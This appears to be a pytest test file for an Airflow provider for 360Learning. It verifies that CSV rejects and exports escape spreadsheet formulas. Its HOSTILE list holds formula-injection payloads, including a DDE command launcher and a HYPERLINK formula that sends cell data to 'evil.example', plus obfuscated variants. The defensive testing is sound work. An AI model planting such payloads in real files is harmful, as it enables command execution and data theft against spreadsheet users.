"""Rows that a spreadsheet would execute as formulas: rejected, opened, corrected, and sent as they were."""

from __future__ import annotations

import csv
import io
import itertools
import re
from pathlib import Path

import pytest

from airflow_provider_360learning.files.columns import Column
from airflow_provider_360learning.files.formats import open_rows, read
from airflow_provider_360learning.files.formulas import escape, escape_if_ambiguous, unescape
from airflow_provider_360learning.operators.exports import Learning360ExportUsersOperator
from airflow_provider_360learning.rows.sources import make_source
from tests.rows.support import bulk, put_csv, writes
from tests.unlimited_sandbox import sandbox, unlimited_server  # noqa: F401 - fixtures

#: What a spreadsheet executes if a cell begins with it, blanks aside.
FORMULA = re.compile(r"[\s\0\ufeff]*[=+\-@＝＋－＠]|[\t\r]")
#: Values of people, which must reach 360Learning as they are.
ORDINARY = ["+33 1 23 45", "-3", "=1+1", "'x", "''y", "'=1", "@home", "Ash, Ana", "a;b", "O'Neil", 'The "Rock"']
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "  =1+1",
    "\xa0=1",
    "\ufeff=1",
    "＝1+1",
    "\t=1",
    "\r=1",
    "x;=1+1;y",
    "x,=1+1,y",
    "x\t=1+1",
    "x\n=1+1\ny",
    'x"\r\n=1+1;"y',
    ";=1",
    ",'=1",
    "x;'=1",
    "\n'=1",
]


def cells_of(text: str, separator: str) -> list[str]:
    """Return all cells as a spreadsheet with this list separator may find them."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def saved_by_spreadsheet(text: str, separator: str, edit: dict[str, str]) -> str:
    """Return a file as a spreadsheet saves it: with a separator and quotation marks of its own, and edited cells."""
    rows = [[edit.get(cell, cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]
    saved = io.StringIO(newline="")
    csv.writer(saved, delimiter=separator, quoting=csv.QUOTE_NONNUMERIC).writerows(rows)
    return "\ufeff" + saved.getvalue()


def put_people(path, names):
    """Write a file of people with these last names, whose email addresses are invalid."""
    with path.open("w", newline="") as file:
        table = csv.writer(file)
        table.writerow(["mail", "mode", "last_name"])
        table.writerows((f"person{number}", "create_active", name) for number, name in enumerate(names))
    return str(path)


def reject(tmp_path, names, **arguments):
    """Have all rows rejected, and return the text of the file."""
    file = put_people(tmp_path / "in.csv", [*names, "valid"])
    with open(file, "a") as more:
        more.write("anna@acme.test,create_active,Ash\n")
    bulk("create_user", file, results_path=tmp_path / "r", on_invalid="skip", **arguments)
    return (tmp_path / "r" / "rejected" / "rejected.csv").read_bytes().decode()


def last_names(path):
    return [row.values.get("last_name") for row in make_source(str(path)).rows()]


def test_rejected_rows_are_corrected_in_a_spreadsheet_and_sent_unchanged(sandbox, tmp_path):  # noqa: F811
    text = reject(tmp_path, ORDINARY)
    corrections = {f"person{number}": f"person{number}@acme.test" for number in range(len(ORDINARY) + 1)}
    corrected = tmp_path / "corrected.csv"
    corrected.write_text(saved_by_spreadsheet(text, ";", corrections), newline="")
    sandbox.control.clear_journal()
    bulk("create_user", str(corrected), results_path=tmp_path / "again")
    sent = {entry["body"]["mail"]: entry["body"]["lastName"] for entry in writes(sandbox)}
    assert sent == dict(zip(corrections.values(), [*ORDINARY, "valid"], strict=True))


@pytest.mark.parametrize("separator", "|:'~;,\t")
@pytest.mark.parametrize("column", ["Name", "Name, a, b, c, d, e, f; g; h; i; j; k; l"])
def test_rows_whose_first_line_names_the_separator_are_corrected_and_sent(sandbox, tmp_path, separator, column):  # noqa: F811
    """Rejected rows have no such line, by which the separator would be known."""
    file = tmp_path / "in.csv"
    rows = [["mail", "mode", column], ["x", "create_active", "=1+1"], ["anna@acme.test", "create_active", "Ash"]]
    with file.open("w", newline="") as text:
        text.write(f"sep={separator}\r\n")
        csv.writer(text, delimiter=separator).writerows(rows)
    arguments = {"column_mapping": {column: "last_name"}, "on_invalid": "skip"}
    bulk("create_user", str(file), results_path=tmp_path / "r", **arguments)
    rejected = tmp_path / "r" / "rejected" / "rejected.csv"
    rejected.write_bytes(rejected.read_bytes().replace(b"\nx", b"\nx@acme.test"))
    bulk("create_user", str(rejected), results_path=tmp_path / "again", **arguments)
    assert [entry["body"]["lastName"] for entry in writes(sandbox)] == ["Ash", "=1+1"]


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_spreadsheet_finds_a_formula_in_rejected_rows(sandbox, tmp_path, separator):  # noqa: F811
    text = reject(tmp_path, HOSTILE + ORDINARY)
    cells = cells_of(text, separator)
    # A spreadsheet that reads the quotation marks otherwise begins cells after every separator and line break.
    cells += re.split(r'[\r\n,;\t]"?', text)
    assert [cell for cell in cells if FORMULA.match(cell)] == []


@pytest.mark.parametrize("escape_formulas", [True, False])
def test_rejected_rows_are_read_as_they_were_whether_or_not_they_are_escaped(sandbox, tmp_path, escape_formulas):  # noqa: F811
    values = HOSTILE + ORDINARY
    text = reject(tmp_path, values, escape_formulas=escape_formulas)
    assert last_names(tmp_path / "r" / "rejected" / "rejected.csv") == [*values, "valid"]
    assert ("'=cmd" in text) == escape_formulas
    assert ("'+33" in text) == escape_formulas


def test_apostrophes_do_not_pile_up_however_often_rows_are_rejected(sandbox, tmp_path):  # noqa: F811
    texts = []
    file = put_people(tmp_path / "in.csv", HOSTILE + ORDINARY)
    for attempt in range(3):
        with open(file, "a") as more:
            more.write("anna@acme.test,create_active,Ash" + (",,\n" if attempt else "\n"))
        bulk("create_user", file, results_path=tmp_path / str(attempt), on_invalid="skip")
        file = str(tmp_path / str(attempt) / "rejected" / "rejected.csv")
        texts.append(Path(file).read_bytes())
    assert len(set(texts)) == 1


def test_cells_that_the_spreadsheet_has_changed_are_read_as_they_are(tmp_path):
    """It drops the first apostrophe of a cell that is edited, and users write values without one."""
    file = tmp_path / "corrected.csv"
    file.write_text("last_name,rejected_row\n=1+1,1\n'x,2\n+33 1,3\n'+33 1,4\n''x,5\n", newline="")
    assert last_names(file) == ["=1+1", "'x", "+33 1", "+33 1", "'x"]


def test_apostrophes_of_other_files_stay(tmp_path):
    file = tmp_path / "in.csv"
    file.write_text("last_name,job\n'=1+1,1\n''x,2\n", newline="")
    assert last_names(file) == ["'=1+1", "''x"]


def test_headers_hold_no_formula_and_are_mapped_by_their_names(sandbox, tmp_path):  # noqa: F811
    rows = [{"mail": "x", "=1+1": "Ash", "'Job'": "-"}, {"mail": "anna@acme.test", "=1+1": "Bo", "'Job'": "-"}]
    file = put_csv(tmp_path / "in.csv", rows)
    mapping = {"=1+1": "last_name", "'Job'": None}
    arguments = {"defaults": {"mode": "create_active"}, "column_mapping": mapping}
    bulk("create_user", file, results_path=tmp_path / "r", on_invalid="skip", **arguments)
    rejected = tmp_path / "r" / "rejected" / "rejected.csv"
    assert rejected.read_text().splitlines()[0] == "mail,'=1+1,''Job',rejected_row,rejected_reason"
    rejected.write_text(rejected.read_text().replace("\nx,", "\nx@acme.test,"))
    bulk("create_user", str(rejected), results_path=tmp_path / "again", **arguments)
    assert [entry["body"]["lastName"] for entry in writes(sandbox)] == ["Bo", "Ash"]


def test_reasons_and_rows_that_cannot_be_read_hold_no_formula(sandbox, tmp_path):  # noqa: F811
    file = tmp_path / "in.csv"
    file.write_text('mail,mode\n=1+1,invite,=2+2\n"=3" x,invite\n-1\nx;=4,invite\nanna@acme.test,invite\n')
    bulk("create_user", str(file), results_path=tmp_path / "r", on_invalid="skip")
    text = (tmp_path / "r" / "rejected" / "rejected.csv").read_text()
    for separator in ",;\t":
        assert [cell for cell in cells_of(text, separator) if FORMULA.match(cell)] == []
    assert "'=2+2" in text
    assert "-1" in text


def test_json_lines_are_not_escaped(sandbox, tmp_path):  # noqa: F811
    rows = [{"mail": "x", "mode": "create_active", "last_name": "=1+1"}, {"mail": "anna@acme.test", "mode": "invite"}]
    bulk("create_user", rows, results_path=tmp_path / "r", on_invalid="skip")
    assert '"last_name": "=1+1"' in (tmp_path / "r" / "rejected" / "rejected.jsonl").read_text()


@pytest.mark.parametrize("escape_formulas", [True, False])
def test_export_is_escaped_if_it_is_for_people(sandbox, tmp_path, escape_formulas):  # noqa: F811
    bulk(
        "create_user", [{"mail": "eve@acme.test", "mode": "create_active", "last_name": "=1+1"}], results_path=tmp_path
    )
    path = tmp_path / "users.csv"
    Learning360ExportUsersOperator(
        task_id="export", output_path=str(path), **({"escape_formulas": True} if escape_formulas else {})
    ).execute({})
    (name,) = [row["last_name"] for _, _, row, _ in read(path) if row["mail"] == "eve@acme.test"]
    assert name == ("'=1+1" if escape_formulas else "=1+1")


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_spreadsheet_finds_a_formula_in_json(tmp_path, separator):
    """A spreadsheet with another separator than that of the file begins cells within the JSON of translations."""
    path = tmp_path / "courses.csv"
    columns = [Column("id"), Column("translations", "json")]
    with open_rows(path, columns, escape_formulas=True) as file:
        file.write(["1", [{"name": value} for value in HOSTILE]])
        file.write(["2", HOSTILE])
        file.commit()
    text = path.read_bytes().decode()
    cells = [*cells_of(text, separator), *re.split(r'[\r\n,;\t]"?', text)]
    assert [cell for cell in cells if FORMULA.match(cell)] == []


@pytest.mark.parametrize("format", ["csv", "jsonl"])
def test_numbers_of_an_export_stay_numbers(tmp_path, format):
    path = tmp_path / f"a.{format}"
    columns = [Column("score", "number"), Column("count", "integer"), Column("text")]
    with open_rows(path, columns, escape_formulas=True) as file:
        file.write([-3.5, -2, "-1"])
        file.write([None, None, None])
    expected = {"csv": "score,count,text\r\n-3.5,-2,'-1\r\n,,\r\n", "jsonl": '{"score":-3.5,"count":-2,"text":"-1"}\n'}
    assert path.read_bytes().decode().startswith(expected[format])


def test_every_text_is_returned_by_removing_the_escapes():
    """All texts of up to five of the characters that have a meaning."""
    for length in range(6):
        for characters in itertools.product("'=a \t\n;,", repeat=length):
            text = "".join(characters)
            assert unescape(escape(text)) == text
            assert unescape(escape_if_ambiguous(text)) == text
            assert not any(map(FORMULA.match, filter(str.strip, re.split(r"[,;\t\n]", escape(text)))))
